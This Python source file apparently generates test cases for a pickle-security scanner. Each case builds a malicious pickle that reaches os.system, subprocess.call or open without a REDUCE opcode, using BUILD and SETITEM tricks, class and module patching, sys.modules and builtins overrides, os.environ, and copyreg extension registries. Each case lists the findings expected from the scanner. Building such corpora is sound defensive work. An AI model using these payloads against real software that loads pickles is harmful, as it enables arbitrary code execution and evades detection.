"""BUILD, SETITEM and APPEND that lead to calls; changes to modules, classes and the interpreter."""

from assembler import (
    ADDITEMS,
    APPEND,
    APPENDS,
    MARK,
    NEWOBJ,
    SETITEM,
    SETITEMS,
    Code,
    build,
    call,
    lit,
    n,
    pickled,
    slots,
    then,
)
from case import COMMAND, MARKER, Case

SYSTEM = n("os.system")
RUN = call("functools.partial", SYSTEM, COMMAND)
SPACE = call("types.SimpleNamespace")


def on_instances():
    """An instance's own dict is asked for __setstate__, append, extend and add."""
    yield Case(
        "setstate-attribute.pkl",
        "BUILD stores os.system as __setstate__ of an instance, a second BUILD calls it",
        pickled(build(build(call("argparse.Namespace"), {"__setstate__": SYSTEM}), COMMAND)),
        ["build argparse.Namespace", "import os.system"],
    )
    yield Case(
        "setstate-newobj.pkl",
        "the same with NEWOBJ: no REDUCE in the file",
        pickled(
            build(build(Code(n("types.SimpleNamespace") + b")" + NEWOBJ), {"__setstate__": SYSTEM}), COMMAND)
        ),
        ["build types.SimpleNamespace", "import os.system"],
    )
    yield Case(
        "setstate-exception.pkl",
        "the same with an exception's dict",
        pickled(
            build(build(Code(n("builtins.Exception") + b")" + NEWOBJ), {"__setstate__": SYSTEM}), COMMAND)
        ),
        ["build builtins.Exception", "import os.system"],
    )
    yield Case(
        "append-attribute.pkl",
        "BUILD stores os.system as append, APPEND calls it",
        pickled(Code(build(SPACE, {"append": SYSTEM}) + lit(COMMAND) + APPEND)),
        ["build types.SimpleNamespace", "import os.system"],
    )
    yield Case(
        "extend-attribute.pkl",
        "BUILD stores subprocess.call as extend, APPENDS calls it with a list",
        pickled(
            Code(build(SPACE, {"extend": n("subprocess.call")}) + MARK + lit("touch") + lit(MARKER) + APPENDS)
        ),
        ["build types.SimpleNamespace", "import subprocess.call"],
    )
    yield Case(
        "add-attribute.pkl",
        "BUILD stores os.system as add, ADDITEMS calls it",
        pickled(Code(build(SPACE, {"add": SYSTEM}) + MARK + lit(COMMAND) + ADDITEMS)),
        ["build types.SimpleNamespace", "import os.system"],
    )
    yield Case(
        "setstate-partial.pkl",
        "a partial whose __setstate__ gets another function, called by defaultdict",
        pickled(
            call(
                "collections:defaultdict.__missing__",
                call(
                    "collections.defaultdict",
                    build(call("functools.partial", n("builtins.len")), (SYSTEM, (COMMAND,), {}, {})),
                ),
                1,
            )
        ),
        ["build functools.partial", "import os.system"],
    )


def on_classes():
    """BUILD with a slot state sets attributes of a class."""
    changed = build(n("argparse.Namespace"), slots(__hash__=RUN))
    yield Case(
        "class-hash.pkl",
        "BUILD sets __hash__ of a class, a dict with an instance as its key calls it",
        pickled(then(changed, Code(b"}" + call("argparse.Namespace") + b"N" + SETITEM))),
        ["build argparse.Namespace", "import os.system"],
    )
    bound = build(
        n("argparse.Namespace"), slots(__setitem__=call("builtins.staticmethod", n("builtins.open")))
    )
    yield Case(
        "class-setitem.pkl",
        "BUILD sets __setitem__ of a class to open, SETITEM calls it with name and mode",
        pickled(then(bound, Code(call("argparse.Namespace") + lit(MARKER) + lit("w") + SETITEM))),
        ["build argparse.Namespace", "import builtins.open"],
    )
    bound = build(n("argparse.Namespace"), slots(__setstate__=call("builtins.staticmethod", SYSTEM)))
    yield Case(
        "class-setstate.pkl",
        "BUILD sets __setstate__ of a class, BUILD of an instance calls it",
        pickled(then(bound, build(Code(n("argparse.Namespace") + b")" + NEWOBJ), COMMAND))),
        ["build argparse.Namespace", "import os.system"],
    )
    made = build(n("argparse.Namespace"), slots(__init__=call("builtins.staticmethod", RUN)))
    yield Case(
        "class-init.pkl",
        "BUILD sets __init__ of a class, making an instance calls it",
        pickled(then(made, call("argparse.Namespace"))),
        ["build argparse.Namespace", "import os.system"],
    )


def on_modules():
    """BUILD on a module that another module imported."""
    yield Case(
        "module-build.pkl",
        "BUILD on a module replaces a harmless function, which is then called",
        pickled(then(build(n("calendar.datetime"), {"date": SYSTEM}), call("datetime.date", COMMAND))),
        ["build calendar.datetime", "import os.system"],
    )
    yield Case(
        "module-build-old.pkl",
        "the same in protocol 2, where GLOBAL takes names as lines",
        b"\x80\x02ccalendar\ndatetime\n}U\x04datecos\nsystem\nsb0cdatetime\ndate\nU\x12"
        + COMMAND.encode()
        + b"\x85R.",
        ["build calendar.datetime", "import os.system"],
    )
    modules = n("sys.modules")
    setting = Code(modules + lit("datetime") + n("tempfile._os") + SETITEM)
    yield Case(
        "modules-setitem.pkl",
        "SETITEM on sys.modules gives os the name of a harmless module",
        pickled(then(setting, call("datetime.system", COMMAND))),
        ["build sys.modules", "call datetime.system"],
    )
    yield Case(
        "modules-itself.pkl",
        "sys.modules takes the place of sys, so that `sys get` finds os",
        b"csys\nmodules\np0\n0g0\nS'sys'\ng0\nscsys\nget\n(S'os'\ntRp1\n0g0\nS'sys'\ng1\nscsys\nsystem\n(S'"
        + COMMAND.encode()
        + b"'\ntR.",
        ["build sys.modules", "call sys.get", "call sys.system"],
    )
    replaced = build(n("rlcompleter.builtins"), {"len": SYSTEM})
    yield Case(
        "builtins-build.pkl",
        "BUILD on the module builtins makes len another function",
        pickled(then(replaced, call("builtins.len", COMMAND))),
        ["build rlcompleter.builtins", "import os.system"],
    )
    table = Code(n("shlex:quote.__globals__") + lit("_find_unsafe") + SYSTEM + SETITEM)
    yield Case(
        "globals-setitem.pkl",
        "SETITEM on a function's globals: shlex.quote then calls os.system",
        pickled(then(table, call("shlex.quote", COMMAND))),
        ["build shlex.quote.__globals__", "import os.system"],
    )
    path = Code(n("os.environ") + MARK + lit("BROWSER") + lit("touch %s") + SETITEMS)
    yield Case(
        "environ-setitems.pkl",
        "SETITEMS on os.environ",
        pickled(then(path, call("webbrowser.open", MARKER))),
        ["build os.environ", "call webbrowser.open"],
    )


def registries():
    """copyreg and the extension codes."""
    yield Case(
        "extension-code.pkl",
        "copyreg.add_extension gives os.system a code, EXT1 fetches it",
        pickled(
            then(call("copyreg.add_extension", "os", "system", 7), Code(b"\x82\x07" + lit((COMMAND,)) + b"R"))
        ),
        ["call copyreg.add_extension", "call os.system"],
    )
    table = Code(n("copyreg._inverted_registry") + lit(300) + lit(("os", "system")) + SETITEM)
    yield Case(
        "extension-registry.pkl",
        "SETITEM on copyreg._inverted_registry, EXT2 fetches os.system",
        pickled(then(table, Code(b"\x83\x2c\x01" + lit((COMMAND,)) + b"R"))),
        ["build copyreg._inverted_registry", "call os.system"],
    )
    cache = Code(n("copyreg._extension_cache") + lit(70000) + SYSTEM + SETITEM)
    yield Case(
        "extension-cache.pkl",
        "SETITEM on copyreg._extension_cache, EXT4 fetches what is there",
        pickled(then(cache, Code(b"\x84\x70\x11\x01\x00" + lit((COMMAND,)) + b"R"))),
        ["build copyreg._extension_cache", "import os.system"],
    )
    yield Case(
        "reconstructor.pkl",
        "copyreg.__newobj__ makes a map, tuple's __new__ consumes it",
        pickled(
            call(
                "copyreg.__newobj__",
                n("builtins.tuple"),
                call("copyreg.__newobj__", n("builtins.map"), SYSTEM, [COMMAND]),
            )
        ),
        ["import builtins.map", "import os.system"],
    )
    yield Case(
        "newobj-ex.pkl",
        "copyreg.__newobj_ex__ makes a bytes object that consumes map(os.system, …)",
        pickled(
            call("copyreg.__newobj_ex__", n("builtins.bytes"), (call("builtins.map", SYSTEM, [COMMAND]),), {})
        ),
        ["import os.system", "call builtins.map"],
    )
    yield Case(
        "copyreg-names.pkl",
        "copy_reg._reconstructor of Python 2 makes a list of a map of os.system",
        b"ccopy_reg\n_reconstructor\n(c__builtin__\nlist\nc__builtin__\nlist\nc__builtin__\nmap\n"
        b"(cos\nsystem\n"
        b"(lS'" + COMMAND.encode() + b"'\natRtR.",
        ["call builtins.map", "import os.system"],
    )


def cases():
    """All cases of this module."""
    for group in (on_instances, on_classes, on_modules, registries):
        yield from group()
